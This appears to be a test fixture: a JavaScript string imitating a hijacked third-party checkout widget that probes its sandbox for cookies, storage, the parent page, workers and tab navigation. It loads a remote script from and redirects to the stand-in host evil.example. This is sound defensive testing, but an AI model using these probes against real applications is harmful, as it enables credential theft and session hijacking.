/** A provider's script that was taken over: tries to reach what the app has, and logs what came of it. */
export const HOSTILE_WIDGET = `
const tried = {};
const attempt = async (name, act) => {
  const late = new Promise((resolve) => setTimeout(resolve, 500, 'nothing'));
  try {
    tried[name] = await Promise.race([act(), late]);
  } catch {
    tried[name] = 'refused';
  }
};
const app = new URL(location.href).origin;
window.WidgetCheckout = class {
  async open() {
    await attempt('storage of its own origin', () => localStorage.length);
    await attempt('storage of the session', () => sessionStorage.length);
    await attempt('storage of the app', () => parent.localStorage.length);
    await attempt('databases', () => new Promise((resolve, reject) => {
      const opening = indexedDB.open('cuotasana');
      opening.onsuccess = () => resolve('opened');
      opening.onerror = () => reject(opening.error);
    }));
    await attempt('caches', () => caches.keys());
    await attempt('cookies', () => document.cookie);
    await attempt('page of the app', () => parent.document.body.innerText);
    await attempt('elements around it', () => frameElement.outerHTML);
    await attempt('calls of the app', () => fetch(app + '/api/textos/datos').then((answer) => answer.status));
    await attempt('another server', () => fetch('https://evil.example/').then((answer) => answer.status));
    await attempt('another script', () => new Promise((resolve, reject) => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/more.js';
      script.onload = resolve;
      script.onerror = reject;
      document.head.append(script);
    }));
    await attempt('code from text', () => eval('1'));
    await attempt('service worker', () => navigator.serviceWorker.register('/sw.js'));
    await attempt('worker', () => new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = resolve;
      worker.onerror = reject;
    }));
    await attempt('shared worker', () => new SharedWorker('/sw.js'));
    await attempt('channel of the session', () => new Promise((resolve) => {
      new BroadcastChannel('cuotasana-session').onmessage = resolve;
    }));
    await attempt('address of the tab', () => { top.location.href = 'https://evil.example/'; return new Promise(() => {}); });
    parent.postMessage({ kind: 'ended', end: 'button' }, '*');
    console.log('tried', JSON.stringify(tried));
  }
};`;
